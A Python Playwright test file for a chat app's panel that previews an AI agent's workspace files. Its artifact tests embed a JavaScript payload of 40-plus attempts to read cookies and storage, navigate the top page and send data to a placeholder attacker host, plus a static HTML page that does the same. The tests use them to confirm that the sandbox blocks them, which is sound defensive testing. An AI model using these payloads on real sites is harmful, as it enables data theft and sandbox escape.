"""The files of a chat's agent beside the chat: found, shown and downloaded, and nothing that an agent wrote gets out of
its frame."""

import json
import os
import re
import socket
import struct
import threading
import zlib
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any, Final

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.chat_page import axe_violations, button, message_box, send, wait_idle
from tests.browser.conftest import ConsoleErrors, Open
from tests.http.client import Served
from tests.http.streams import until

ROWS: Final = 'name,amount\n"Smith, ""Jo""",12\n"two\nlines",7\n'
WRITES: Final = {"call": "c1", "name": "write_file", "args": {"path": "./src/main.py", "content": "x"}, "result": "ok"}


def png(width: int = 64, height: int = 48) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\0" + b"\x20\x90\x90" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def wav(seconds: float = 1.0) -> bytes:
    data = b"\0\0" * int(8000 * seconds)
    form = struct.pack("<4sIHHIIHH", b"fmt ", 16, 1, 1, 8000, 16000, 2, 16)
    return b"RIFF" + struct.pack("<I", 36 + len(data)) + b"WAVE" + form + b"data" + struct.pack("<I", len(data)) + data


FILES: Final[dict[str, bytes]] = {
    "README.md": b"# Tide tables\n\nHigh water at **Dover**, as a [chart](chart.svg).\n\n- one\n- two\n",
    "src/main.py": b"def tide(hour: int) -> float:\n    # meters\n    return 3.5 * hour\n",
    "src/lib/deep.py": b"x = 1\n",
    "data.csv": ROWS.encode(),
    "config.json": json.dumps({"port": "Dover", "levels": [1.5, 2, {"deep": True}]}).encode(),
    "chart.svg": b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><circle cx="4" cy="4" r="3"/></svg>',
    "page.html": b"<h1 id=out>Before</h1><script>out.textContent = 'Scripts run'</script>",
    "photo.png": png(),
    "sound.wav": wav(),
    "program.bin": b"\x7fELF\0\0",
    "long.log": b"a line of the log\n" * 40_000,
    ".env": b"SECRET=1\n",
}


def workspace(server: Served, **fields: Any) -> tuple[str, Path]:
    sid = server.session(title="Tide tables", **fields)
    root = server.data_dir / "workspaces" / sid
    for name, content in FILES.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(content)
    return sid, root


def panel(page: Page) -> Locator:
    return page.get_by_role("complementary", name="Files")


def item(page: Page, name: str) -> Locator:
    return panel(page).get_by_role("treeitem").filter(has_text=name)


def show(page: Page, name: str) -> None:
    """Open a file of the first level."""
    if panel(page).get_by_role("button", name="Chat folder").count():
        button(panel(page), "Chat folder").click()
    item(page, name).click()


def test_every_kind_of_file_is_shown(server: Served, open_page: Open, console_errors: ConsoleErrors) -> None:
    """Code, Markdown, tables, JSON, images, sound, pages, binaries and long files, each in its own way."""
    console_errors.expect("Blocked script execution")  # of the page, before its scripts are allowed
    sid, root = workspace(server)
    page = open_page(f"{server.url}/c/{sid}", width=1400)
    expect(button(page, "Files")).to_have_attribute("aria-expanded", "false")
    button(page, "Files").click()
    expect(button(page, "Files")).to_have_attribute("aria-expanded", "true")
    files = panel(page)
    expect(files.get_by_role("treeitem").first).to_contain_text("src")
    item(page, "src").click()
    item(page, "main.py").click()
    expect(files.locator("pre .hljs-keyword").first).to_have_text("def")
    show(page, "README.md")
    expect(files.get_by_role("heading", name="Tide tables")).to_be_visible()
    files.get_by_text("Source").click()
    expect(files.locator("pre")).to_contain_text("# Tide tables")
    show(page, "data.csv")
    expect(files.get_by_role("columnheader")).to_have_text(["name", "amount"])
    expect(files.get_by_role("cell")).to_have_text(['Smith, "Jo"', "12", "two\nlines", "7"])
    show(page, "config.json")
    files.get_by_text("levels:").click()
    expect(files.get_by_text("1.5")).to_be_visible()
    show(page, "photo.png")
    page.wait_for_function("() => document.querySelector('#files img')?.naturalWidth === 64")
    show(page, "sound.wav")
    page.wait_for_function("() => document.querySelector('#files audio')?.duration === 1")
    show(page, "page.html")
    expect(files.frame_locator("iframe").get_by_text("Before")).to_be_visible()
    files.get_by_label("Run scripts").check()
    expect(files.frame_locator("iframe").get_by_text("Scripts run")).to_be_visible()
    show(page, "chart.svg")
    expect(files.frame_locator("iframe").locator("circle")).to_be_visible()
    show(page, "program.bin")
    expect(files.get_by_text("This is a binary file")).to_be_visible()
    show(page, "long.log")
    expect(files.get_by_role("note")).to_contain_text("see all 720 kB")
    with page.expect_download() as download:
        files.get_by_role("link", name="Download").click()
    assert download.value.path().read_bytes() == (root / "long.log").read_bytes()
    button(files, "Chat folder").click()
    with page.expect_download() as download:
        files.get_by_role("link", name="Download folder").click()
    assert download.value.suggested_filename == "workspace.zip"


def test_files_are_found(server: Served, open_page: Open) -> None:
    """The filter, hidden files, breadcrumbs, more pages, and names that are no plain text."""
    sid, root = workspace(server)
    (root / os.fsdecode(b"odd\xff\n\xe2\x80\xaename.txt")).write_bytes(b"odd content")
    (root / "many").mkdir()
    for n in range(450):
        (root / "many" / f"{n:03}.txt").touch()
    page = open_page(f"{server.url}/c/{sid}", width=1400)
    button(page, "Files").click()
    files = panel(page)
    expect(item(page, "README.md")).to_be_visible()
    expect(item(page, ".env")).to_have_count(0)
    files.get_by_label("Hidden files").check()
    expect(item(page, ".env")).to_be_visible()
    files.get_by_label("Filter files").fill("READ")
    expect(files.get_by_role("treeitem")).to_have_count(1)
    files.get_by_label("Filter files").fill("")
    item(page, "odd").click()
    expect(files.locator("pre")).to_have_text("odd content")
    expect(files.get_by_role("navigation", name="Folder")).to_contain_text("odd%FF%0A")
    button(files, "Chat folder").click()
    item(page, "many").click()
    item(page, "Show more (250 left)").click()
    item(page, "Show more (50 left)").click()
    expect(item(page, "449.txt")).to_be_visible()
    item(page, "src").click()
    item(page, "lib").click()
    item(page, "deep.py").click()
    button(files.get_by_role("navigation", name="Folder"), "src").click()
    expect(files.get_by_role("treeitem")).to_have_text(["lib", "main.py 65 B"])


def test_only_what_is_shown_is_read_again(server: Served, open_page: Open) -> None:
    """A filter reads the directory that it is for and no others. Collapsed ones are not read when an agent is done."""
    sid, root = workspace(server)
    page = open_page(f"{server.url}/c/{sid}", width=1400)
    button(page, "Files").click()
    for name in ("src", "lib"):
        item(page, name).click()
    expect(item(page, "deep.py")).to_be_visible()
    read: list[str] = []
    paths = re.compile(r"/workspace/entries(?:\?(?:.*&)?path=([^&]*))?")
    page.on("request", lambda request: read.extend(paths.findall(request.url)))
    panel(page).get_by_label("Filter files").press_sequentially("READ")
    expect(panel(page).get_by_role("treeitem")).to_have_count(1)
    panel(page).get_by_label("Filter files").fill("")
    expect(item(page, "deep.py")).to_be_visible()
    assert set(read) == {""}
    item(page, "src").click()
    expect(item(page, "main.py")).to_have_count(0)
    item(page, "src").click()
    expect(item(page, "main.py")).to_be_visible()
    expect(item(page, "deep.py")).to_have_count(0)
    (root / "new.txt").touch()
    read.clear()
    send(page, [WRITES, {"say": "Written."}], shows="Written.")
    expect(item(page, "new.txt")).to_be_visible()
    assert set(read) == {"", "src"}


def test_files_by_keyboard(server: Served, open_page: Open) -> None:
    """F6 opens the files and goes back to the message; arrows, Home, End and Enter move in the tree."""
    sid, _ = workspace(server)
    page = open_page(f"{server.url}/c/{sid}", width=1400)
    expect(button(page, "Files")).to_be_visible()  # it comes with the chat, and F6 with it
    message_box(page).click()
    page.keyboard.press("F6")
    expect(panel(page)).to_be_focused()
    expect(item(page, "src")).to_be_visible()
    item(page, "src").focus()
    page.keyboard.press("ArrowRight")
    expect(item(page, "main.py")).to_be_visible()
    for key, name in (("ArrowRight", "lib"), ("ArrowDown", "main.py"), ("ArrowLeft", "src"), ("End", "sound.wav")):
        page.keyboard.press(key)
        expect(item(page, name)).to_be_focused()
    page.keyboard.press("Home")
    page.keyboard.press("ArrowLeft")
    expect(item(page, "main.py")).to_have_count(0)
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    expect(panel(page).get_by_role("navigation", name="Folder")).to_contain_text("chart.svg")
    expect(panel(page)).to_be_focused()  # what had the focus is hidden
    for focused in (message_box(page), panel(page), message_box(page)):
        page.keyboard.press("F6")
        expect(focused).to_be_focused()
    page.reload()
    expect(item(page, "README.md")).to_be_visible()  # still open


def test_a_tool_card_opens_its_file_and_the_files_follow_the_agent(server: Served, open_page: Open) -> None:
    """A path that a call names opens that file or folder; what an agent writes appears when its call or run ends."""
    sid, root = workspace(server)
    page = open_page(f"{server.url}/c/{sid}", width=1400)
    send(page, [WRITES, {"say": "Written."}], shows="Written.")
    wait_idle(page)
    page.get_by_role("region", name="Tool write_file").get_by_role("button").first.click()
    button(page, "./src/main.py").click()
    files = panel(page)
    expect(files.get_by_text("meters")).to_be_visible()
    (root / "src" / "main.py").write_text("changed = True\n")
    send(page, [{**WRITES, "call": "c2"}, {"say": "Changed."}], shows="Changed.")
    expect(files.get_by_text("changed")).to_be_visible()
    folder = {"call": "c4", "name": "list_files", "args": {"path": "src/lib"}, "result": "deep.py"}
    send(page, [folder, {"say": "Listed."}], shows="Listed.")
    wait_idle(page)
    page.get_by_role("region", name="Tool list_files").get_by_role("button").first.click()
    button(page, "src/lib").click()
    expect(files.get_by_role("treeitem")).to_have_text(["deep.py 6 B"])
    outside = {"call": "c3", "name": "read_file", "args": {"path": "/etc/hostname"}, "result": "x"}
    send(page, [outside, {"say": "Read."}], shows="Read.")
    wait_idle(page)
    page.get_by_role("region", name="Tool read_file").get_by_role("button").first.click()
    button(page, "/etc/hostname").click()
    expect(files.get_by_role("alert")).to_have_text("/etc/hostname is not in this chat’s folder.")


def test_a_chat_whose_agent_has_no_files_yet(server: Served, open_page: Open) -> None:
    """It says so, and shows them once there are some."""
    sid = server.session(title="Empty")
    page = open_page(f"{server.url}/c/{sid}", width=1400)
    button(page, "Files").click()
    expect(panel(page)).to_contain_text("The agent has not worked with files in this chat yet.")
    root = server.data_dir / "workspaces" / sid
    root.mkdir(parents=True)
    (root / "new.txt").touch()
    send(page, "done", shows="done")
    expect(item(page, "new.txt")).to_be_visible()
    item(page, "new.txt").click()
    expect(panel(page).get_by_text("This file is empty")).to_be_visible()


def test_files_on_a_phone(server: Served, open_page: Open) -> None:
    """They cover the chat, nothing is wider than the screen, and Escape, Back and Close lead to the chat."""
    sid, _ = workspace(server)
    page = open_page(f"{server.url}/c/{sid}", width=360, height=740)
    for close in ("Escape", "Back", "button"):
        button(page, "Files").click()
        show(page, "data.csv")
        expect(panel(page).get_by_role("table")).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
        if close == "Escape":
            page.keyboard.press("Escape")
        elif close == "Back":
            page.go_back()
        else:
            button(panel(page), "Close files").click()
        expect(panel(page)).to_have_count(0)
        expect(button(page, "Files")).to_be_focused()
        assert page.url == f"{server.url}/c/{sid}"
    page.reload()
    expect(message_box(page)).to_be_visible()
    expect(panel(page)).to_have_count(0)


def test_files_have_no_accessibility_violations(server: Served, open_page: Open) -> None:
    """The tree and each kind of preview, in light and dark, wide and on a phone."""
    sid, _ = workspace(server)
    for width in (1400, 360):
        page = open_page(f"{server.url}/c/{sid}", width=width)
        button(page, "Files").click()
        item(page, "src").click()
        expect(item(page, "main.py")).to_be_visible()
        assert axe_violations(page) == []
        for name in ("data.csv", "config.json", "README.md", "photo.png"):
            show(page, name)
            expect(panel(page).get_by_role("link", name="Download")).to_be_visible()
            assert axe_violations(page) == [], name
        page.close()


# ---- artifacts ----

ATTEMPTS: Final = """
const report = {};
const tries = {
  cookie: () => document.cookie,
  setCookie: () => { document.cookie = "a=1"; return document.cookie; },
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => new Promise((yes, no) => {
    const asked = indexedDB.open("x"); asked.onsuccess = yes; asked.onerror = no;
  }),
  caches: () => caches.open("x"),
  parentDocument: () => parent.document.title,
  parentStorage: () => parent.localStorage.length,
  topLocationRead: () => top.location.href,
  topNavigation: () => { top.location = "EVIL/top"; throw 0; },
  topByLink: () => {
    const a = document.createElement("a"); a.href = "EVIL/link"; a.target = "_top"; document.body.append(a);
    a.click(); throw 0;
  },
  frameElement: () => frameElement.id,
  opener: () => window.opener.location.href,
  popup: () => window.open("EVIL/popup").location,
  fetchHere: () => fetch("/api/sessions"),
  fetchHereFull: () => fetch("HERE/api/sessions", {credentials: "include", mode: "no-cors"}),
  fetchThere: () => fetch("EVIL/fetch", {mode: "no-cors"}),
  xhr: () => new Promise((yes, no) => {
    const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open("GET", "EVIL/xhr"); x.send();
  }),
  beacon: () => { if (!navigator.sendBeacon("EVIL/beacon", "x")) throw 0; throw 0; },
  socket: () => new Promise((yes, no) => {
    const s = new WebSocket("EVIL".replace("http", "ws")); s.onopen = yes; s.onerror = no;
  }),
  events: () => new Promise((yes, no) => { const s = new EventSource("EVIL/events"); s.onopen = yes; s.onerror = no; }),
  image: () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "EVIL/img"; }),
  imageHere: () => new Promise((yes, no) => {
    const i = new Image(); i.onload = yes; i.onerror = no; i.src = "HERE/static/icon.svg";
  }),
  script: () => new Promise((yes, no) => {
    const s = document.createElement("script"); s.onload = yes; s.onerror = no; s.src = "EVIL/script.js";
    document.head.append(s);
  }),
  style: () => new Promise((yes, no) => {
    const s = document.createElement("link"); s.rel = "stylesheet"; s.onload = yes; s.onerror = no;
    s.href = "EVIL/style.css"; document.head.append(s);
  }),
  font: () => new FontFace("f", "url(EVIL/font)").load(),
  importModule: () => import("EVIL/module.js"),
  worker: () => new Promise((yes, no) => {
    const blob = URL.createObjectURL(new Blob(["fetch('EVIL/worker').then(() => postMessage(1))"]));
    const w = new Worker(blob); w.onmessage = yes; w.onerror = no;
  }),
  serviceWorker: () => navigator.serviceWorker.register("/sw.js"),
  form: () => {
    const f = document.createElement("form"); f.action = "EVIL/form"; document.body.append(f); f.submit(); throw 0;
  },
  video: () => new Promise((yes, no) => {
    const v = document.createElement("video"); v.oncanplay = yes; v.onerror = no; v.src = "EVIL/video";
  }),
  object: () => new Promise((yes, no) => {
    const o = document.createElement("object"); o.onload = yes; o.onerror = no; o.data = "EVIL/object";
    document.body.append(o);
  }),
  ping: () => {
    const a = document.createElement("a"); a.href = "#x"; a.ping = "EVIL/ping"; document.body.append(a); a.click();
    throw 0;
  },
  prefetch: () => {
    for (const rel of ["prefetch", "preload", "dns-prefetch", "preconnect", "prerender", "manifest", "icon"]) {
      const l = document.createElement("link"); l.rel = rel; l.as = "script"; l.href = "EVIL/" + rel;
      document.head.append(l);
    }
    throw 0;
  },
  css: () => { document.body.style.background = "url(EVIL/css)"; throw 0; },
  innerFrame: () => {
    const f = document.createElement("iframe"); f.src = "EVIL/frame"; document.body.append(f); throw 0;
  },
  innerFrameText: () => {
    const f = document.createElement("iframe"); f.srcdoc = "<img src='EVIL/srcdoc'>"; document.body.append(f); throw 0;
  },
  channel: () => new Promise((yes, no) => {
    const c = new BroadcastChannel("holdfast"); c.onmessage = yes; setTimeout(no, 200);
  }),
  history: () => parent.history.back(),
  clipboard: () => navigator.clipboard.readText(),
  notification: async () => { if (await Notification.requestPermission() !== "granted") throw 0; },
  location: () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
};
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    const late = new Promise((_, no) => setTimeout(no, 1500));
    try { report[name] = "reached: " + String(await Promise.race([attempt(), late])); } catch { report[name] = "no"; }
  }
  window.report = report;
  document.body.dataset.done = "yes";
})();
"""


class Listener:
    """Another host: notes the first line of every request that reaches it."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.lines: list[str] = []
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(5)
                try:
                    first = connection.recv(4096).partition(b"\r\n")[0]
                except OSError:
                    first = b""
                self.lines.append(first.decode("latin-1") or "(connected)")
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def elsewhere() -> Iterator[Listener]:
    with closing(Listener()) as listener:
        yield listener


def test_an_artifact_with_scripts_reaches_nothing(
    server: Served, open_page: Open, elsewhere: Listener, console_errors: ConsoleErrors
) -> None:
    """More than 40 attempts of a script to reach cookies, storage, the page, this server or another host; each fails,
    and the page stays where it is, also when the artifact leaves for another site by itself."""
    console_errors.expect("")  # the browser reports each attempt
    sid, root = workspace(server)
    script = ATTEMPTS.replace("EVIL", elsewhere.url).replace("HERE", server.url)
    (root / "attack.html").write_text(f"<!doctype html><body><script>{script}</script>")
    (root / "leave.html").write_text(
        f"<!doctype html><meta http-equiv=refresh content='0;url={elsewhere.url}/refresh'>"
        f"<script>setTimeout(() => location = '{elsewhere.url}/leave?' + document.title, 50)</script>Leaving"
    )
    (root / "attack.svg").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>window.ran = 1; fetch("{elsewhere.url}/svg")</script></svg>'
    )
    page = open_page(f"{server.url}/c/{sid}", width=1400)
    page.evaluate("document.cookie = 'secret=1'; localStorage.setItem('secret', '1')")
    button(page, "Files").click()
    show(page, "attack.html")
    panel(page).get_by_label("Run scripts").check()
    frame = panel(page).frame_locator("iframe")
    expect(frame.locator("body[data-done]")).to_be_attached(timeout=60_000)
    report = frame.locator("body").evaluate("() => window.report")
    assert len(report) >= 40
    assert {name: said for name, said in report.items() if said != "no"} == {}
    assert page.evaluate("document.cookie") == "secret=1"
    show(page, "attack.svg")
    panel(page).get_by_label("Run scripts").check()
    expect(frame.locator("svg")).to_be_attached()
    show(page, "leave.html")
    with page.expect_console_message(lambda message: "frame-src" in message.text):
        panel(page).get_by_label("Run scripts").check()
    assert page.url == f"{server.url}/c/{sid}"
    assert len(page.context.pages) == 1
    assert elsewhere.lines == []
    page.request.get(f"{elsewhere.url}/control")  # it does listen
    assert elsewhere.lines == ["GET /control HTTP/1.1"]


STATIC: Final = """<!doctype html><head><meta http-equiv=refresh content="0;url=EVIL/refresh"><base href="EVIL/base/">
<link rel=stylesheet href="EVIL/style.css"><link rel=preconnect href="EVIL"><link rel=dns-prefetch href="EVIL">
<link rel=preload as=image href="EVIL/preload"><link rel=prefetch href="EVIL/prefetch"><link rel=icon href="EVIL/icon">
<style>@import "EVIL/import.css"; @font-face { font-family: f; src: url(EVIL/font) }
body { font-family: f; background: url(EVIL/css) }</style></head>
<body onload="document.body.dataset.ran = 1"><img src="EVIL/img" srcset="EVIL/set 2x"><iframe src="EVIL/frame"></iframe>
<iframe srcdoc="<script>top.location = 'EVIL/srcdoc'</script><img src='EVIL/inner'>"></iframe><embed src="EVIL/embed">
<object data="EVIL/object"></object><video src="EVIL/video" poster="EVIL/poster" autoplay></video>
<audio src="EVIL/audio" autoplay></audio><svg><image href="EVIL/image"/><use href="EVIL/use#x"/></svg>
<form action="EVIL/form"><input name=x autofocus onfocus="this.form.submit()"></form>
<script>document.body.dataset.ran = 1; new RTCPeerConnection({iceServers: [{urls: "stun:STUN"}]})</script>
<p id=end>End</p>"""


def test_an_artifact_runs_no_script_unasked(
    server: Served, open_page: Open, elsewhere: Listener, console_errors: ConsoleErrors
) -> None:
    """What markup and styles alone can load or open stays unloaded, and scripts do not run."""
    console_errors.expect("")  # the browser reports each attempt
    sid, root = workspace(server)
    document = STATIC.replace("EVIL", elsewhere.url).replace("STUN", elsewhere.url.removeprefix("http://"))
    (root / "static.html").write_text(document)
    page = open_page(f"{server.url}/c/{sid}", width=1400)
    button(page, "Files").click()
    show(page, "static.html")
    frame = panel(page).frame_locator("iframe")
    expect(frame.locator("#end")).to_be_visible()
    until(lambda: frame.locator("body").evaluate("() => document.readyState"), lambda state: state == "complete")
    assert page.url == f"{server.url}/c/{sid}"
    assert elsewhere.lines == []
    assert frame.locator("body").get_attribute("data-ran") is None


def test_artifacts_open_in_the_chat_only(server: Served, open_page: Open, console_errors: ConsoleErrors) -> None:
    """The address of an artifact, opened by itself, shows a problem instead of the document."""
    console_errors.expect("409")
    sid, _ = workspace(server)
    page = open_page(f"{server.url}/api/sessions/{sid}/workspace/artifact?path=page.html")
    assert "displayed in the chat only" in page.content()
